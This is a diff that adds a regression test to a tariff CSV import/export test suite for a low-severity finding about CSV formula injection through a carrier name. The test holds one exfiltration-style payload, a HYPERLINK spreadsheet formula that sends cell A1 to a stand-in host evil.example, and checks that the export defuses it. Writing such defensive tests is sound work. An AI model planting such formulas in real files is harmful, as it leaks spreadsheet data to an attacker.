@@ -160,6 +160,24 @@ describe('tariff CSV import (dry run, confirm, progress)', () => {
   });
 });
 
+describe('finding 6 (low): CSV formula injection through a carrier name', () => {
+  it('a carrier named =HYPERLINK(…) imports, and the export writes it inert; imported again it is the same name', async () => {
+    const carrier = '=HYPERLINK("https://evil.example/?"&A1,"Fiyat")';
+    const report = await uploaded(csv([{ ...lcl, carrier, origin: 'TRIST', valid_from: day(0), valid_to: day(10) }]));
+    expect(report.report).toEqual([]);
+    expect((await confirm(report.id)).status).toBe(200);
+    expect((await finished(report.id)).status).toBe('imported');
+    const answer = await api.call('GET', `/api/Tariff/Export?carrier=${encodeURIComponent('HYPERLINK')}&validOn=${day(1)}`, { bearer: operator });
+    const lines = answer.bytes.toString('utf8').slice(1).trim().split('\r\n');
+    expect(lines).toHaveLength(2);
+    expect(lines[1]).toContain(`;"'=HYPERLINK(""https://evil.example/?""&A1,""Fiyat"")";`);
+    expect(lines[1]!.split(';').some((cell) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false);
+    const again = await uploaded(answer.bytes);
+    // The same name read back: the only report is the overlap with the stored original.
+    expect(again.report).toEqual([{ line: 2, errors: [{ field: 'valid_from', code: 'overlapExisting' }] }]);
+  });
+});
+
 describe('tariff export and validity', () => {
   it('exports the layout as UTF-8 with BOM that imports back to the same tariffs', async () => {
     const answer = await api.call('GET', `/api/Tariff/Export?carrier=${encodeURIComponent('Çağrı')}&validOn=${day(1)}`, { bearer: operator });
